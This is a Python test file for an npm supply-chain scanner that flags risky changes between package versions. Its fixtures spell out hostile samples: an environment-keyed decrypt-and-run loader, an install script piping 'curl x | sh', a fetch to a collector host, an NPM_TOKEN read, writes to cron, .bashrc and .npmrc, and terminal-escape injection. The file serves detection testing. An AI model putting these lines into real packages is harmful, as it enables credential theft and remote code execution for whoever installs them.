from __future__ import annotations

import base64
import os
from collections.abc import Mapping
from datetime import UTC, datetime

import pytest

from scanner.model import Severity
from scanner.registry.packument import Packument, Unavailable, VersionInfo
from scanner.tarball.compare import PackageDiff, diff_packages
from scanner.tarball.risk import RiskNote, assess

from .builders import package, tar_bytes

BASE_CODE = "'use strict';\nmodule.exports = function add(a, b) {\n  return a + b;\n};\n"


def diff_of(
    old_files: dict[str, str | bytes],
    new_files: dict[str, str | bytes],
    old_fields: Mapping[str, object] | None = None,
    new_fields: Mapping[str, object] | None = None,
) -> PackageDiff:
    return diff_packages(
        package("demo", "1.0.0", old_files, **(old_fields or {})),
        package("demo", "1.0.1", new_files, **(new_fields or {})),
    )


def kinds(notes: list[RiskNote]) -> set[str]:
    return {n.kind for n in notes}


def only(notes: list[RiskNote], kind: str) -> RiskNote:
    (found,) = [n for n in notes if n.kind == kind]
    return found


def test_unchanged_package_has_no_notes() -> None:
    assert assess(diff_of({"index.js": BASE_CODE}, {"index.js": BASE_CODE})) == []


def test_flatmap_stream_style_payload() -> None:
    # An encrypted payload decrypted with a key taken from the environment, then run.
    payload = os.urandom(400).hex()
    evil = (
        "var crypto = require('crypto');\n"
        f"var data = '{payload}';\n"
        "var key = process.env.npm_package_description;\n"
        "var d = crypto.createDecipher('aes256', key);\n"
        "var code = d.update(data, 'hex', 'utf8');\n"
        "module.exports = new Function('require', code);\n"
    )
    notes = assess(diff_of({"index.js": BASE_CODE}, {"index.js": BASE_CODE, "lib/x.js": evil}))
    decipher = only(notes, "decipher")
    assert (decipher.severity, decipher.file, decipher.line) == (Severity.HIGH, "lib/x.js", 4)
    assert only(notes, "encoded-blob").line == 2
    assert only(notes, "env-read").line == 3
    assert only(notes, "dynamic-code").line == 6


def test_install_script_added_and_changed() -> None:
    old_fields = {"scripts": {"postinstall": "node setup.js", "test": "jest"}}
    new_fields = {
        "scripts": {
            "postinstall": "node setup.js && curl x | sh",
            "preinstall": "node evil.js",
            "test": "vitest",
        }
    }
    notes = assess(diff_of({}, {}, old_fields, new_fields))
    added = only(notes, "install-script-added")
    assert added.severity is Severity.HIGH
    assert "preinstall" in added.message and added.file == "package.json"
    assert added.line is not None  # points at the "preinstall" key in package.json
    changed = only(notes, "install-script-changed")
    assert "curl x | sh" in changed.message
    assert "test" not in {n.message.split()[1] for n in notes}  # non-install scripts ignored


def test_binding_gyp_counts_as_an_install_script() -> None:
    notes = assess(diff_of({}, {"binding.gyp": "{'targets': []}\n"}))
    assert "node-gyp" in only(notes, "install-script-added").message


def test_entry_points_changed() -> None:
    notes = assess(
        diff_of(
            {},
            {},
            {"main": "index.js", "bin": "cli.js", "exports": {".": "./index.js"}},
            {"main": "other.js", "bin": {"demo": "./evil.js"}, "exports": {".": "./o.js"}},
        )
    )
    assert {"main-changed", "bin-changed", "exports-changed"} <= kinds(notes)
    assert only(notes, "bin-changed").severity is Severity.MEDIUM


def test_same_bin_spelled_differently_is_not_a_change() -> None:
    notes = assess(diff_of({}, {}, {"bin": "./cli.js"}, {"bin": {"demo": "cli.js"}}))
    assert "bin-changed" not in kinds(notes)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("const cp = require('child_process');", "child-process"),
        ("import { exec } from 'node:child_process';", "child-process"),
        ("eval(atob(x));", "dynamic-code"),
        ("const f = new Function('return this')();", "dynamic-code"),
        ("const g = Function('return this')();", "dynamic-code"),
        ("const https = require('https');", "network"),
        ("import net from 'node:net';", "network"),
        ("await fetch('https://collector.example.test/x');", "network"),
        ("require('dns').lookup(host, cb);", "dns"),
        ("const token = process.env.NPM_TOKEN;", "env-read"),
        ("crypto.createDecipheriv('aes-256-cbc', k, iv);", "decipher"),
        ("fs.writeFileSync('/etc/cron.d/x', job);", "write-outside-package"),
        ("fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line);", "write-outside-package"),
        ("fs.writeFile('../../.npmrc', data, cb);", "write-outside-package"),
    ],
)
def test_code_patterns_in_added_lines(line: str, kind: str) -> None:
    new = BASE_CODE.replace("  return a + b;\n", f"  return a + b;\n  {line}\n")
    notes = assess(diff_of({"index.js": BASE_CODE}, {"index.js": new}))
    note = only(notes, kind)
    assert (note.file, note.line) == ("index.js", 4)


@pytest.mark.parametrize(
    "line",
    [
        "const protocol = 'http';",
        "obj.eval(x);",
        "this.fetch(x);",
        "fs.writeFileSync(path.join(__dirname, 'out.txt'), d);",
        "const s = 'childprocess';",
        "if (isFunction(x)) evaluate(x);",
    ],
)
def test_lookalikes_are_not_reported(line: str) -> None:
    new = BASE_CODE + line + "\n"
    assert assess(diff_of({"index.js": BASE_CODE}, {"index.js": new})) == []


def test_moved_existing_uses_are_not_new() -> None:
    old = "const cp = require('child_process');\nfunction a() {}\nfunction b() {}\n"
    new = "function b() {}\nconst cp = require('child_process');\nfunction a() {}\n"
    assert "child-process" not in kinds(assess(diff_of({"i.js": old}, {"i.js": new})))


def test_patterns_outside_code_files_are_ignored() -> None:
    readme = "Use require('child_process') with care; eval( is bad.\n"
    types = "declare module 'child_process' { }\n"
    notes = assess(diff_of({}, {"README.md": readme, "index.d.ts": types}))
    assert notes == []


def test_shebang_scripts_are_code() -> None:
    script = "#!/usr/bin/env node\nrequire('child_process').execSync('id');\n"
    assert "child-process" in kinds(assess(diff_of({}, {"bin/run": script})))


def test_obfuscator_output_is_flagged() -> None:
    names = ";".join(f"var _0x{i:04x}a=_0x{i + 1:04x}b" for i in range(12))
    notes = assess(diff_of({}, {"lib/o.js": names + "\n"}))
    assert only(notes, "obfuscated-code").severity is Severity.HIGH


def test_high_entropy_string_is_flagged_but_prose_is_not() -> None:
    random_text = os.urandom(300).hex()  # hex is only 4 bits/char: use base64-like text
    blobish = base64.b64encode(os.urandom(300)).decode().replace("+", "-").replace("/", "_")
    spaced = " ".join(blobish[i : i + 40] for i in range(0, len(blobish), 40))
    prose = "The quick brown fox jumps over the lazy dog. " * 6
    notes = assess(
        diff_of({}, {"a.js": f"x = '{spaced}';\ny = '{prose}';\nz = '{random_text[:10]}';\n"})
    )
    assert only(notes, "high-entropy-string").line == 1


def test_new_minified_file_and_newly_minified_file() -> None:
    minified = "!function(){" + "var a=1;" * 200 + "}();\n"
    notes = assess(
        diff_of({"m.js": "function a() {\n  return 1;\n}\n"}, {"m.js": minified, "n.js": minified})
    )
    assert {n.file for n in notes if n.kind == "minified-code"} == {"m.js", "n.js"}
    # A file that was minified already is not news.
    again = minified.replace("var a=1;", "var b=2;", 1)
    assert "minified-code" not in kinds(assess(diff_of({"m.js": minified}, {"m.js": again})))


def test_native_binaries_are_flagged() -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 64
    notes = assess(
        diff_of(
            {},
            {
                "prebuilds/linux/addon.node": elf,
                "run.exe": b"MZ\x90\0" + b"\0" * 32,
                "img.png": b"\x89PNG\r\n\x1a\n\0\0",
            },
        )
    )
    native = {n.file: n for n in notes if n.kind == "native-binary"}
    assert set(native) == {"prebuilds/linux/addon.node", "run.exe"}
    assert "ELF" in native["prebuilds/linux/addon.node"].message
    assert only(notes, "binary-file").file == "img.png"


def test_missing_package_json_is_noted() -> None:
    notes = assess(diff_packages(tar_bytes({"a.js": "1"}), tar_bytes({"a.js": "2"})))
    assert only(notes, "manifest-missing").severity is Severity.MEDIUM


def test_dependency_added_with_lookups() -> None:
    now = datetime(2024, 6, 1, tzinfo=UTC)
    seen: list[tuple[str, str]] = []

    def advisories(name: str, spec: str) -> list[str]:
        seen.append((name, spec))
        return ["MAL-2018-1"] if name == "flatmap-stream" else []

    def packuments(name: str) -> Packument | Unavailable | None:
        if name == "flatmap-stream":
            return Packument(name, {}, time={"created": "2024-05-28T10:00:00.000Z"})
        if name == "left-pad":
            return Packument(name, {}, time={"created": "2016-03-01T00:00:00Z"})
        return Unavailable(name, "HTTP 404")

    diff = diff_of(
        {},
        {},
        {"dependencies": {"left-pad": "^1.0.0", "through": "~2.3.1"}},
        {
            "dependencies": {"left-pad": "^1.0.0", "through": "~2.3.4", "flatmap-stream": "^0.1.0"},
            "optionalDependencies": {"ghost": "1.0.0"},
        },
    )
    notes = assess(diff, lookup_advisories=advisories, packument_lookup=packuments, now=now)
    added = {n.message for n in notes if n.kind == "dependency-added"}
    assert added == {"adds dependency flatmap-stream@^0.1.0", "adds dependency ghost@1.0.0"}
    assert "MAL-2018-1" in only(notes, "dependency-malicious").message
    assert only(notes, "dependency-malicious").severity is Severity.CRITICAL
    assert "less than 30 days" in only(notes, "dependency-new-package").message
    assert only(notes, "dependency-unchecked").severity is Severity.INFO
    # Re-ranged dependencies are checked against advisories too, unchanged ones are not.
    assert ("through", "~2.3.4") in seen
    assert all(name != "left-pad" for name, _ in seen)


def test_manifest_confusion_against_the_registry_document() -> None:
    new_fields = {
        "scripts": {"postinstall": "node x.js"},
        "dependencies": {"a": "1"},
        "bin": {"demo": "./cli.js"},
        "main": "./lib/index.js",
    }
    diff = diff_of({}, {}, None, new_fields)
    honest = VersionInfo(
        "1.0.1",
        scripts={"postinstall": "node x.js"},
        dependencies={"a": "1"},
        bin={"demo": "cli.js"},
        main="lib/index.js",
    )
    assert "manifest-confusion" not in kinds(assess(diff, registry_info=honest))
    lying = VersionInfo(
        "1.0.1", dependencies={"a": "1"}, bin={"demo": "cli.js"}, main="lib/index.js"
    )
    notes = [n for n in assess(diff, registry_info=lying) if n.kind == "manifest-confusion"]
    assert len(notes) == 1
    assert "install scripts" in notes[0].message and notes[0].severity is Severity.HIGH


def test_default_main_is_index_js_on_both_sides() -> None:
    diff = diff_of({}, {}, None, {"main": "index.js"})
    assert "manifest-confusion" not in kinds(assess(diff, registry_info=VersionInfo("1.0.1")))


def test_notes_round_trip_through_json() -> None:
    note = RiskNote("decipher", Severity.HIGH, "a.js", 3, "m")
    assert RiskNote.from_json(note.to_json()) == note


def test_attacker_chosen_text_cannot_carry_terminal_escapes() -> None:
    fields = {"scripts": {"postinstall": "node x.js\x1b[2K\x1b[1Aecho harmless" + "y" * 500}}
    note = only(assess(diff_of({}, {}, None, fields)), "install-script-added")
    assert "\x1b" not in note.message
    assert "\\x1b[2K" in note.message
    assert len(note.message) <= 300


def test_publish_time_normalisation_is_not_manifest_confusion() -> None:
    fields = {
        "dependencies": {"a": "1"},
        "optionalDependencies": {"fsevents": "^2"},
        "directories": {"bin": "./bin"},
    }
    diff = diff_of({}, {"binding.gyp": "{}\n", "bin/tool": "#!/bin/sh\n"}, None, fields)
    normalised = VersionInfo(
        "1.0.1",
        scripts={"install": "node-gyp rebuild"},
        gypfile=True,
        dependencies={"a": "1", "fsevents": "^2"},
        optional_dependencies={"fsevents": "^2"},
        bin={"tool": "bin/tool"},
    )
    assert "manifest-confusion" not in kinds(assess(diff, registry_info=normalised))
    # A dependency the registry does not show is still confusion.
    hidden = VersionInfo("1.0.1", scripts={"install": "node-gyp rebuild"}, dependencies={"a": "1"})
    notes = [n for n in assess(diff, registry_info=hidden) if n.kind == "manifest-confusion"]
    assert [n.message.split(" in the tarball")[0] for n in notes] == ["dependencies"]


def test_prepare_scripts_matter_less_for_registry_installs() -> None:
    notes = assess(
        diff_of(
            {}, {}, {"scripts": {"prepare": "husky install"}}, {"scripts": {"prepare": "husky"}}
        )
    )
    changed = only(notes, "install-script-changed")
    assert changed.severity is Severity.LOW
    assert "git installs only" in changed.message
